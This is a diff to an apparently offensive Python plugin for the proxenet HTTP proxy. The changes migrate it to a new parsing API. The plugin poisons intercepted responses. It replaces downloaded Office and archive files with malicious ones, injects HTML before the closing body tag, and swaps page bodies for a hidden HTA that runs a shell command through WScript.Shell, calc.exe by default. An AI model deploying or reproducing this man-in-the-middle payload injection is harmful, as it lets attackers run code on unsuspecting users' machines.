@@ -19,7 +19,8 @@ AUTHOR        = "@_hugsy_"
 
 
 import os, subprocess, ConfigParser, re, base64
-from pimp import HTTPRequest, HTTPResponse, HTTPBadResponseException
+from pimp import get_request, get_response, HTTPBadRequestException, HTTPBadResponseException, RESPONSE
+from pimp import peek_header, parse_media_type, Verdicts, PASS_THROUGH
 
 HOME = os.getenv( "HOME" )
 CONFIG_FILE = os.getenv("HOME") + "/.proxenet.ini"
@@ -37,6 +38,7 @@ except Exception as e:
 
 file_cache = { "html": path_to_html, }
 q = {}
+verdicts = Verdicts()
 types = {"docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
          "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
          "pptx": "application/vnd.openxmlformats-officedocument.presentationml.presentation",
@@ -50,6 +52,7 @@ types = {"docx": "application/vnd.openxmlformats-officedocument.wordprocessingml
          "rar": "application/rar",
          "html": "text/html",
          }
+mime_types = dict( [(v,k) for k,v in types.iteritems()] )
 
 
 def is_supported_type(t):
@@ -57,10 +60,7 @@ def is_supported_type(t):
     Checks if the content type is supported by our poisoining plugins. If not, the request will
     not be tampered.
     """
-    p = t.lower()
-    for k,v in types.iteritems():
-        if v == p:  return k
-    return None
+    return mime_types.get(parse_media_type(t).essence, None)
 
 
 def hit_cache(ctype):
@@ -112,7 +112,7 @@ def replace_body_with_hta(http, ctype, **kwargs):
 
     action = kwargs.get("action", "cmd.exe /c calc.exe")
     fname = get_filename(http, ctype)
-    http.body = """<html><head>
+    http.decoded_body = """<html><head>
     <hta:application id="Service Interrupts" showintaskbar="no" sysmenu="no" border="none" </head>
     <body><script language="JScript">
     function Window_onLoad(){{ new ActiveXObject('WScript.Shell').Run('{}'); window.resizeTo(1,1); }}
@@ -165,7 +165,7 @@ def replace_with_malicious(http, ctype):
     # 2.
     with open(res, "rb") as f:
         data = f.read()
-        http.body = data
+        http.decoded_body = data
 
     fname = get_filename(http, ctype)
     http.del_header("Content-Disposition")
@@ -191,18 +191,18 @@ def inject_html(http):
     if len(html_to_inject) == 0:
         return False
 
+    body = http.decoded_body
     new = re.sub(r"(</body>)",
                  r"%s\1" % html_to_inject,
-                 http.body,
+                 body,
                  flags=re.IGNORECASE)
 
-    if new == http.body:
+    if new == body:
         # if here, means http response is chunked, so just append it
-        http.body += html_to_inject
+        http.decoded_body = body + html_to_inject
     else:
-        http.body = new
+        http.decoded_body = new
 
-    http.del_header("Content-Encoding")
     print("Injecting HTML content into response {rid:d}".format(rid=http.rid))
     return http.render()
 
@@ -213,7 +213,11 @@ def proxenet_request_hook(rid, request, uri):
     """
     global q
 
-    h = HTTPRequest(request, rid=rid)
+    try:
+        h = get_request(rid, request)
+    except HTTPBadRequestException:
+        return request
+
     q[rid] = {"name": h.basename, "ua": h.get_header("user-agent")}
     return request
 
@@ -223,17 +227,22 @@ def proxenet_response_hook(rid, response, uri):
     When a HTTP response header is received, check if it has a supported content type.
     If so, inject our payload.
     """
-    try:
-        http = HTTPResponse(response, rid=rid)
+    if verdicts.lookup(rid, RESPONSE, response) is not None:
+        # only the fragment carrying the response head can be poisoned
+        return response
 
-        if not http.has_header("Content-Type"):
-            del(http)
-            return response
+    verdicts.set(rid, RESPONSE, PASS_THROUGH, response)
 
-        detected_type = is_supported_type( http.get_header("Content-Type") )
-        if detected_type is None:
-            del(http)
-            return response
+    ctype = peek_header(response, "Content-Type")
+    if ctype is None:
+        return response
+
+    detected_type = is_supported_type(ctype)
+    if detected_type is None:
+        return response
+
+    try:
+        http = get_response(rid, response)
 
         # for tests
         # return replace_body_with_hta(http, detected_type)